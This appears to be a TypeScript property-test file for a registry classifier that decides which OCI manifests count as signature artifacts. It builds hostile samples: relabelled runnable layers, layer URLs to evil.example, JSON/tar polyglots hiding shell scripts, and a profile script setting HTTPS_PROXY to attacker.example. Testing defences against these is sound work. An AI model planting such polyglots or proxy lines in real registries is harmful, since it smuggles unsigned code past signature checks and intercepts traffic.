// Which manifests count as signature artifacts (served by a signed-only project without a signature
// of their own): only those whose content proves it. The property plays a hostile project member who
// controls every label (manifest media type, artifactType, layer media types, annotations, config)
// and some of the bytes: whenever a layer could unpack into a file system, or the config could run
// something, the manifest is not a signature artifact. Examples check the real tools' artifacts are.
import { spawnSync } from 'node:child_process';
import test from 'ava';
import fc from 'fast-check';
import { gzipSync } from 'node:zlib';
import { createSignatureArtifacts, holdsTarHeader, type SmallBlobReader } from '../../sigstore/signature-artifact.js';
import { makeCosignKey } from '../helpers/cosign.js';
import { blobOf, OCI_INDEX, OCI_LAYER, OCI_MANIFEST, tarOf, type Blob } from '../helpers/oci-layout.js';
import {
  jsonTarPolyglot,
  POLYGLOT_WRAPPERS,
  COSIGN_SIMPLESIGNING,
  cosignAttestation,
  cosignConfig,
  cosignPayload,
  cosignSignatureManifest,
  descriptorOf,
  EMPTY_CONFIG,
  manifestOf,
  notationReferrer,
  sigstoreBundleReferrer,
  type Artifact,
} from '../helpers/signature-artifacts.js';

const SUBJECT = blobOf(Buffer.from('{"schemaVersion":2}'), OCI_MANIFEST);

/** The registry's blob store as the classifier sees it: digest → bytes, with its size limit. */
function readerOf(blobs: Blob[]): SmallBlobReader {
  const byDigest = new Map(blobs.map((b) => [b.digest, b.data]));
  return async (digest, limit) => {
    const data = byDigest.get(digest);
    return data && data.length <= limit ? data : undefined;
  };
}

async function classify(artifact: Artifact) {
  const artifacts = createSignatureArtifacts(readerOf(artifact.blobs));
  return artifacts.classify({ digest: artifact.manifest.digest, mediaType: artifact.manifest.mediaType, content: artifact.manifest.data });
}

test('the signature artifacts cosign, containers/image and Notation push are recognised', async (t) => {
  const key = makeCosignKey();
  const subject = SUBJECT.digest;
  t.deepEqual(await classify(cosignSignatureManifest(key, subject, 'registry.example.com/team/app')), { signature: true });
  t.deepEqual(await classify(sigstoreBundleReferrer(SUBJECT)), { signature: true });
  t.deepEqual(await classify(notationReferrer(SUBJECT)), { signature: true });
  t.deepEqual(await classify(cosignAttestation(SUBJECT)), { signature: true });
  // containers/image's sigstore attachment config (imgspecv1.Image with only rootfs filled in).
  const payload = cosignPayload(subject, 'registry.example.com/team/app:v1', { creator: 'skopeo', timestamp: 1 });
  const config = blobOf(
    Buffer.from(JSON.stringify({ architecture: '', os: '', config: {}, rootfs: { type: 'layers', diff_ids: [payload.digest] } })),
    'application/vnd.oci.image.config.v1+json',
  );
  const manifest = manifestOf({
    config: descriptorOf(config),
    layers: [descriptorOf(payload, { annotations: { 'dev.cosignproject.cosign/signature': 'AAAA' } })],
  });
  t.deepEqual(await classify({ blobs: [config, payload], manifest }), { signature: true });
});

test('only the fields the signing tools write: any other key in the manifest or a descriptor forfeits the exemption', async (t) => {
  // Go clients read `Layers` or `layerſ` as `layers`; a vendor field might mean something to some
  // client. The exemption is for the exact shape, whatever the extra key holds.
  const real = cosignSignatureManifest(makeCosignKey(), SUBJECT.digest, 'registry.example.com/team/app');
  t.deepEqual(await classify(real), { signature: true });
  const body = JSON.parse(real.manifest.data.toString()) as { config: Record<string, unknown>; layers: Record<string, unknown>[] };
  const variants: [string, Record<string, unknown>][] = [
    ['Layers', { ...body, Layers: [] }],
    ['layerſ', { ...body, layerſ: [] }],
    ['a vendor field', { ...body, 'x-vendor': { layers: [] } }],
    ['Digest in a layer', { ...body, layers: [{ ...body.layers[0], Digest: SUBJECT.digest }] }],
    ['platform in the config descriptor', { ...body, config: { ...body.config, platform: { os: 'linux' } } }],
  ];
  for (const [what, fields] of variants) {
    const manifest = blobOf(Buffer.from(JSON.stringify(fields)), OCI_MANIFEST);
    t.false((await classify({ blobs: real.blobs, manifest })).signature, what);
  }
});

test('labels earn nothing: a runnable layer labelled as a signature, an index, a runnable config, urls', async (t) => {
  const key = makeCosignKey();
  const real = cosignSignatureManifest(key, SUBJECT.digest, 'registry.example.com/team/app');
  const layer = blobOf(gzipSync(tarOf({ 'bin/sh': Buffer.from('#!/bin/sh\necho pwned\n') })), COSIGN_SIMPLESIGNING);
  const annotations = { 'dev.cosignproject.cosign/signature': 'AAAA' };
  const relabelled = manifestOf({
    artifactType: 'application/vnd.dev.cosign.artifact.sig.v1+json',
    config: descriptorOf(real.blobs[0]!),
    layers: [descriptorOf(layer, { annotations })],
  });
  t.false((await classify({ blobs: [...real.blobs, layer], manifest: relabelled })).signature);
  const extra = manifestOf({
    config: descriptorOf(real.blobs[0]!),
    layers: [descriptorOf(real.payload, { annotations }), descriptorOf(layer, { annotations })],
  });
  t.false((await classify({ blobs: [...real.blobs, layer], manifest: extra })).signature);
  const index = manifestOf({ manifests: [descriptorOf(real.manifest)] }, OCI_INDEX);
  t.false((await classify({ blobs: real.blobs, manifest: index })).signature);
  const runs = blobOf(
    Buffer.from(JSON.stringify({ config: { Entrypoint: ['/payload'] }, rootfs: { type: 'layers', diff_ids: [] } })),
    'application/vnd.oci.image.config.v1+json',
  );
  const withEntrypoint = manifestOf({ config: descriptorOf(runs), layers: [descriptorOf(real.payload, { annotations })] });
  t.false((await classify({ blobs: [runs, real.payload], manifest: withEntrypoint })).signature);
  const external = manifestOf({
    config: descriptorOf(real.blobs[0]!),
    layers: [descriptorOf(real.payload, { annotations, urls: ['http://evil.example/layer.tar.gz'] })],
  });
  t.false((await classify({ blobs: real.blobs, manifest: external })).signature);
  const noLayers = manifestOf({ config: descriptorOf(EMPTY_CONFIG), layers: [] });
  t.false((await classify({ blobs: [EMPTY_CONFIG], manifest: noLayers })).signature);
});

// The hostile member's choices, each with whether it could run or unpack something.
const LAYER_TYPES = [
  COSIGN_SIMPLESIGNING,
  'application/vnd.dsse.envelope.v1+json',
  'application/vnd.dev.sigstore.bundle.v0.3+json',
  'application/jose+json',
  'application/cose',
  OCI_LAYER,
  'application/vnd.oci.image.layer.v1.tar',
  'application/vnd.docker.image.rootfs.diff.tar.gzip',
  'application/vnd.oci.empty.v1+json',
];
const ARTIFACT_TYPES = [
  undefined,
  'application/vnd.dev.cosign.artifact.sig.v1+json',
  'application/vnd.cncf.notary.signature',
  'application/vnd.dev.sigstore.bundle.v0.3+json',
];

type Content = { kind: 'runnable' | 'json'; data: Buffer };
const content: fc.Arbitrary<Content> = fc.oneof(
  fc.constantFrom<'gzip' | 'tar'>('gzip', 'tar').map((form) => {
    const tar = tarOf({ 'bin/tool': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(9), Buffer.from([2, 0])]) });
    return { kind: 'runnable' as const, data: form === 'gzip' ? gzipSync(tar) : tar };
  }),
  fc
    .uint8Array({ minLength: 1, maxLength: 64 })
    .map((bytes) => ({ kind: 'runnable' as const, data: Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from(bytes)]) })),
  fc
    .constantFrom(
      cosignPayload(SUBJECT.digest, 'registry.example.com/team/app').data,
      sigstoreBundleReferrer(SUBJECT).blobs[1]!.data,
      notationReferrer(SUBJECT).blobs[1]!.data,
      cosignAttestation(SUBJECT).blobs[1]!.data,
      Buffer.from('{"critical":{}}'),
    )
    .map((data) => ({ kind: 'json' as const, data })),
);

const configChoice = fc.constantFrom(
  { runs: false, blob: EMPTY_CONFIG },
  { runs: false, blob: cosignConfig([]) },
  { runs: true, blob: blobOf(Buffer.from(JSON.stringify({ config: { Cmd: ['/bin/tool'] } })), 'application/vnd.oci.image.config.v1+json') },
  {
    runs: true,
    blob: blobOf(
      Buffer.from(JSON.stringify({ config: { Env: ['PATH=/'] }, architecture: 'amd64', os: 'linux' })),
      'application/vnd.oci.image.config.v1+json',
    ),
  },
  {
    runs: true,
    blob: blobOf(Buffer.from(JSON.stringify({ container_config: { Cmd: ['x'] } })), 'application/vnd.oci.image.config.v1+json'),
  },
);

const hostile = fc.record({
  mediaType: fc.constantFrom(OCI_MANIFEST, 'application/vnd.docker.distribution.manifest.v2+json', OCI_INDEX),
  artifactType: fc.constantFrom(...ARTIFACT_TYPES),
  config: configChoice,
  layers: fc.array(
    fc.record({ content, mediaType: fc.constantFrom(...LAYER_TYPES), annotate: fc.boolean(), urls: fc.boolean(), data: fc.boolean() }),
    { minLength: 0, maxLength: 4 },
  ),
  manifestsField: fc.boolean(),
});

test('property: whatever the labels, a manifest with a layer that could unpack, or a config that runs, is never a signature artifact', async (t) => {
  await fc.assert(
    fc.asyncProperty(hostile, async (choice) => {
      const layers = choice.layers.map((l) => ({ ...l, blob: blobOf(l.content.data, l.mediaType) }));
      const manifest = manifestOf(
        {
          ...(choice.artifactType ? { artifactType: choice.artifactType } : {}),
          config: descriptorOf(choice.config.blob),
          layers: layers.map((l) =>
            descriptorOf(l.blob, {
              ...(l.annotate ? { annotations: { 'dev.cosignproject.cosign/signature': 'AAAA' } } : {}),
              ...(l.urls ? { urls: ['http://evil.example/x'] } : {}),
              ...(l.data ? { data: l.content.data.toString('base64') } : {}),
            }),
          ),
          ...(choice.manifestsField ? { manifests: [] } : {}),
        },
        choice.mediaType,
      );
      const verdict = await classify({ blobs: [choice.config.blob, ...layers.map((l) => l.blob)], manifest });
      const unsafe =
        choice.mediaType === OCI_INDEX ||
        choice.manifestsField ||
        choice.config.runs ||
        layers.length === 0 ||
        layers.some((l) => l.content.kind === 'runnable' || l.urls || l.data);
      if (unsafe) return !verdict.signature;
      return true;
    }),
    { seed: 20261202, numRuns: 3000 },
  );
  t.pass();
});

/** A signature artifact whose one layer is the polyglot. */
function polyglotArtifact(layerBytes: Buffer, mediaType: string): Artifact {
  const layer = blobOf(layerBytes, mediaType);
  return {
    blobs: [EMPTY_CONFIG, layer],
    manifest: manifestOf({
      artifactType: 'application/vnd.dev.cosign.artifact.sig.v1+json',
      config: descriptorOf(EMPTY_CONFIG),
      layers: [descriptorOf(layer, { annotations: { 'dev.cosignproject.cosign/signature': 'AAAA' } })],
    }),
  };
}

test('a layer that is strict JSON and also a tar archive (GNU tar lists its files) is never a signature artifact', async (t) => {
  const files = [
    // No line breaks (JSON strings hold no control characters), which sh does not need.
    { name: 'etc/profile.d/corp.sh', content: 'export HTTPS_PROXY=http://attacker.example:3128' },
    { name: 'usr/local/bin/setup.sh', content: 'echo unsigned code ran; id' },
  ];
  for (const [kind, wrapper] of Object.entries(POLYGLOT_WRAPPERS)) {
    for (const junkBlocks of [0, 1]) {
      const bytes = jsonTarPolyglot(files, wrapper, junkBlocks);
      t.false(bytes.includes(0), 'no NUL byte anywhere');
      t.notThrows(() => void JSON.parse(bytes.toString('latin1')), `${kind}: strict JSON`);
      // --ignore-zeros: GNU tar reads on past blocks that hold no header (and exits 2 after).
      const listed = spawnSync('tar', ['-t', '--ignore-zeros', '-f', '-'], { input: bytes, encoding: 'utf8' })
        .stdout.split('\n')
        .map((line) => line.replace(/^\/+/, ''));
      t.true(listed.includes('usr/local/bin/setup.sh'), `${kind}, ${junkBlocks} junk blocks: GNU tar lists ${listed.join(', ')}`);
      t.true(holdsTarHeader(bytes));
      const verdict = await classify(polyglotArtifact(bytes, wrapper.mediaType));
      t.false(verdict.signature, `${kind}, ${junkBlocks} junk blocks`);
    }
  }
});

test('property: JSON holding a tar archive, whatever its files and wrapper, is never a signature artifact', async (t) => {
  const printable = fc.stringMatching(/^[ -!#-[\]-~]{0,700}$/);
  const name = fc.stringMatching(/^[a-z][a-z0-9._/-]{0,40}$/);
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.record({ name, content: printable }), { minLength: 1, maxLength: 3 }),
      fc.constantFrom(...Object.values(POLYGLOT_WRAPPERS)),
      fc.integer({ min: 0, max: 2 }),
      async (files, wrapper, junkBlocks) => {
        const bytes = jsonTarPolyglot(files, wrapper, junkBlocks);
        if (bytes.length > 256 * 1024) return true;
        return holdsTarHeader(bytes) && !(await classify(polyglotArtifact(bytes, wrapper.mediaType))).signature;
      },
    ),
    { seed: 20261205, numRuns: 300 },
  );
  t.pass();
});

test('the tar check passes the payloads real signing tools write', (t) => {
  const key = makeCosignKey();
  const real = [
    cosignSignatureManifest(key, SUBJECT.digest, 'registry.example.com/team/app').payload.data,
    cosignAttestation(SUBJECT).blobs[1]!.data,
    sigstoreBundleReferrer(SUBJECT).blobs[1]!.data,
    notationReferrer(SUBJECT).blobs[1]!.data,
  ];
  for (const bytes of real) t.false(holdsTarHeader(bytes));
  t.true(holdsTarHeader(tarOf({ 'bin/tool': Buffer.from('x') })));
});

test('a checksum field led by any blank GNU tar skips (tab, line feed, vertical tab, form feed, carriage return) still counts', async (t) => {
  // A cosign payload whose first 512 bytes are a V7 header: the name opens the JSON, the numbers
  // sit in a JSON string, and the checksum field lies outside it: blanks (JSON whitespace) and the
  // octal sum written as a JSON number. GNU tar extracts the file (adversarial testing).
  const critical = (JSON.parse(cosignPayload(SUBJECT.digest, 'registry.example.com/team/app').data.toString()) as { critical: unknown })
    .critical;
  for (const blank of ['\n', '\t', '\r', '\v', '\f']) {
    const opening = '{"optional":{"a":["';
    const name = `${opening}${'/'.repeat(100 - opening.length - 4)}x.sh`;
    const numbers = `0000755 0000000 0000000 ${(512).toString(8).padStart(11, '0')} 0000000000",`;
    const rest = `,"${'L'.repeat(99)}`.padEnd(512 - 156, 'P');
    const sum = [...`${name}${numbers}${' '.repeat(8)}${rest}`].reduce((total, c) => total + c.charCodeAt(0), 0);
    const header = `${name}${numbers}${sum.toString(8).padStart(8, blank)}${rest}`;
    const closing = `"]},"critical":${JSON.stringify(critical)}}`;
    const bytes = Buffer.from(header + 'echo unsigned code ran #'.padEnd(512 - closing.length, '#') + closing, 'latin1');
    if (blank === '\n' || blank === '\t' || blank === '\r') t.notThrows(() => void JSON.parse(bytes.toString('latin1')), 'strict JSON');
    const listed = spawnSync('tar', ['-t', '-f', '-'], { input: bytes, encoding: 'utf8' }).stdout;
    t.regex(listed, /x\.sh/, `GNU tar reads the header led by ${JSON.stringify(blank)}`);
    t.true(holdsTarHeader(bytes), JSON.stringify(blank));
    if (blank === '\n') t.false((await classify(polyglotArtifact(bytes, COSIGN_SIMPLESIGNING))).signature);
  }
});

test('a judgement reads each distinct layer once, within a bound, and a "no" from bytes read is kept', async (t) => {
  // The tester's manifest: 127 layers naming one valid DSSE envelope of about 200 KiB, and one
  // that does not parse. Each pull through a new Host name judged it anew: 127 reads of 200 KiB.
  const envelope = blobOf(
    Buffer.from(
      JSON.stringify({ payloadType: 'application/vnd.in-toto+json', payload: 'x'.repeat(200 * 1024), signatures: [{ sig: 'AA==' }] }),
    ),
    'application/vnd.dsse.envelope.v1+json',
  );
  const junk = blobOf(Buffer.from('not json'), 'application/vnd.dsse.envelope.v1+json');
  const manifest = manifestOf({
    config: descriptorOf(EMPTY_CONFIG),
    layers: [...Array.from({ length: 127 }, () => descriptorOf(envelope)), descriptorOf(junk)],
  });
  const reads: string[] = [];
  const reader = readerOf([EMPTY_CONFIG, envelope, junk]);
  const artifacts = createSignatureArtifacts(async (digest, limit) => {
    reads.push(digest);
    return reader(digest, limit);
  });
  const stored = { digest: manifest.digest, mediaType: manifest.mediaType, content: manifest.data };
  t.like(await artifacts.classify(stored), { signature: false });
  t.true(reads.filter((d) => d === envelope.digest).length <= 1, `the envelope was read ${reads.length} times`);
  const before = reads.length;
  t.like(await artifacts.classify(stored), { signature: false });
  t.is(reads.length, before, 'the verdict is kept: the bytes it rests on cannot change');

  // Distinct layers of more than 1 MiB in all: refused from the descriptors, before a byte is read.
  const big = Array.from({ length: 25 }, (_, i) =>
    blobOf(
      Buffer.from(JSON.stringify({ payloadType: 't', payload: 'A'.repeat(200 * 1024) + String(i).padStart(4, '0'), signatures: [] })),
      envelope.mediaType,
    ),
  );
  const heavy = manifestOf({ config: descriptorOf(EMPTY_CONFIG), layers: big.map((b) => descriptorOf(b)) });
  reads.length = 0;
  const verdict = await createSignatureArtifacts(async (digest, limit) => {
    reads.push(digest);
    return readerOf([EMPTY_CONFIG, ...big])(digest, limit);
  }).classify({ digest: heavy.digest, mediaType: heavy.mediaType, content: heavy.data });
  t.like(verdict, { signature: false });
  t.regex((verdict as { reason: string }).reason, /more than 1048576 bytes/);
  t.deepEqual(reads, []);
});

test('a verdict that cannot be kept (a layer not in storage yet) reads again only the layers it could not judge', async (t) => {
  const envelopes = Array.from({ length: 8 }, (_, i) =>
    blobOf(
      Buffer.from(
        JSON.stringify({ payloadType: 't', payload: 'A'.repeat(100 * 1024) + String(i).padStart(4, '0'), signatures: [{ sig: 'AA==' }] }),
      ),
      'application/vnd.dsse.envelope.v1+json',
    ),
  );
  // Named by the manifest, not stored (a mirror fetches blobs when asked): each judgement fails on it.
  const missing = blobOf(Buffer.from('{"never":"stored"}'), 'application/vnd.dsse.envelope.v1+json');
  const manifest = manifestOf({ config: descriptorOf(EMPTY_CONFIG), layers: [...envelopes, missing].map((b) => descriptorOf(b)) });
  const reads: string[] = [];
  const reader = readerOf([EMPTY_CONFIG, ...envelopes]);
  const artifacts = createSignatureArtifacts(async (digest, limit) => {
    reads.push(digest);
    return reader(digest, limit);
  });
  const stored = { digest: manifest.digest, mediaType: manifest.mediaType, content: manifest.data };
  for (let pull = 0; pull < 3; pull++) t.like(await artifacts.classify(stored), { signature: false });
  for (const envelope of envelopes)
    t.is(reads.filter((d) => d === envelope.digest).length, 1, 'each envelope read once in three judgements');
  t.is(reads.filter((d) => d === missing.digest).length, 3);
});

test('one blob under several spellings of a type is no signature artifact, and a layer is parsed once across manifests', async (t) => {
  const bundle = sigstoreBundleReferrer(SUBJECT);
  const layer = bundle.blobs.find((b) => b.mediaType.startsWith('application/vnd.dev.sigstore.bundle'))!;
  const reads: string[] = [];
  const reader = readerOf(bundle.blobs);
  const artifacts = createSignatureArtifacts(async (digest, limit) => {
    reads.push(digest);
    return reader(digest, limit);
  });
  const judge = (manifest: Blob) => artifacts.classify({ digest: manifest.digest, mediaType: manifest.mediaType, content: manifest.data });
  // The tester's manifest: the bundle under 128 spellings of its type, each accepted on its own.
  const spellings = manifestOf({
    config: descriptorOf(EMPTY_CONFIG),
    layers: Array.from({ length: 128 }, (_, i) =>
      descriptorOf(layer, { mediaType: `application/vnd.dev.sigstore.bundle+json;${' '.repeat(i)}version=0.3` }),
    ),
  });
  const verdict = await judge(spellings);
  t.like(verdict, { signature: false });
  t.regex((verdict as { reason: string }).reason, /named under two types/);
  t.deepEqual(reads, [], 'refused from the manifest, before a byte is read');
  // Manifests a member pushes around one layer (an annotation apart): its bytes are read once.
  for (let i = 0; i < 5; i++) {
    const around = manifestOf({ config: descriptorOf(EMPTY_CONFIG), layers: [descriptorOf(layer)], annotations: { n: String(i) } });
    t.deepEqual(await judge(around), { signature: true });
  }
  t.is(reads.filter((d) => d === layer.digest).length, 1);
});
